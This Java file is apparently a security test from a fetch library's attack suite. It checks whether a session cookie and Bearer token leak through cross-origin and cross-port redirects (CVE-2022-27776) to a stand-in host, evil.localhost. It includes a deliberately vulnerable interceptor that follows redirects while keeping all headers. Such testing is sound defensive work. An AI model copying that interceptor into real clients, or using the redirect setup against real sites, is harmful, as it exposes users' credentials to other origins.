package dev.skerry.security;

import dev.skerry.fetch.AddressSpace;
import dev.skerry.fetch.FetchClient;
import dev.skerry.fetch.FetchRequest;
import dev.skerry.fetch.FetchRequest.Destination;
import dev.skerry.fetch.FetchRequest.Mode;
import dev.skerry.fetch.Interceptor;
import dev.skerry.fetch.NetworkRequest;
import dev.skerry.fetch.RequestClient;
import dev.skerry.fetch.Url;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;

/**
 * Has a user's cookie and authorisation sent elsewhere: by a redirect of the bank to another origin and to another port
 * (CVE-2022-27776), and by requests of another site's page. The control follows redirects below the rules and keeps
 * every header, as a client does that lets its HTTP library follow them.
 */
final class StolenCredentials implements Attack {

  private static final String SECRET = "session-4711";

  @Override
  public Card card() {
    return new Card("stolen-credentials", Target.NETWORK,
        "receive the cookie or the authorisation that a user has for another origin",
        Invariant.NOTHING_IS_LEARNT,
        "redirects that start over at main fetch, without authorisation and with the next host's own cookies"
        + " (Fetch 4.5)", AttackClass.COOKIES);
  }

  @Override
  public Outcome run(Setting setting) throws Exception {
    try (Sites sites = new Sites(); Sites otherPort = new Sites();
         FetchClient client = setting.isUp() ? FetchClient.builder().build()
             : FetchClient.builder().interceptor(followingBelow()).build()) {
      String bank = sites.origin("bank.localhost");
      sites.answer("bank.localhost", "/login", 200, Map.of("Content-Type", "text/html", "Set-Cookie",
          "__Host-s=" + SECRET + "; Secure; Path=/"), "");
      sites.redirect("bank.localhost", "/away", sites.origin("evil.localhost") + "/loot");
      sites.redirect("bank.localhost", "/port", otherPort.origin("evil.localhost") + "/loot");
      Fetches.response(client, FetchRequest.document(Fetches.url(bank + "/login")));
      RequestClient page = Fetches.document(Fetches.url(bank + "/"), AddressSpace.LOOPBACK);
      for (String path : List.of("/away", "/port")) {
        Url url = Fetches.url(bank + path);
        Fetches.response(client, Fetches.of(page, url, Mode.CORS, Destination.EMPTY)
            .withHeader("Authorization", "Bearer " + SECRET));
        Fetches.response(client, FetchRequest.document(url));
      }
      List<Sites.Arrival> loot = new ArrayList<>(sites.arrivals());
      loot.addAll(otherPort.arrivals());
      long sent = loot.stream().filter(arrival -> arrival.target().startsWith("evil"))
          .filter(arrival -> arrival.headers().values().stream().anyMatch(value -> value.contains(SECRET))).count();
      requireSharp(loot);
      return new Outcome(sent > 0, sent + " requests to other origins carried it");
    }
  }

  /** The bank itself must have seen both, or there was nothing to steal. */
  private static void requireSharp(List<Sites.Arrival> arrivals) {
    for (String header : List.of("cookie", "authorization")) {
      if (arrivals.stream().noneMatch(arrival -> arrival.target().startsWith("bank")
          && arrival.headers().getOrDefault(header, "").contains(SECRET))) {
        throw new IllegalStateException("the bank never saw " + header);
      }
    }
  }

  /** A link that follows redirects by itself, with all headers of the first request. */
  private static Interceptor followingBelow() {
    return (request, next) -> next.proceed(request).thenCompose(response -> {
      if (!response.isRedirect()) {
        return CompletableFuture.completedFuture(response);
      }
      response.body().cancel();
      List<Url> urls = new ArrayList<>(request.urlList());
      urls.add(Fetches.url(response.header("location").orElseThrow()));
      return next.proceed(new NetworkRequest(request.fetch(), request.method(), urls, request.headers(),
          request.body(), request.includeCredentials(), request.cacheMode(), request.timeoutNanos(), request.signal(),
          request.reach()));
    });
  }
}
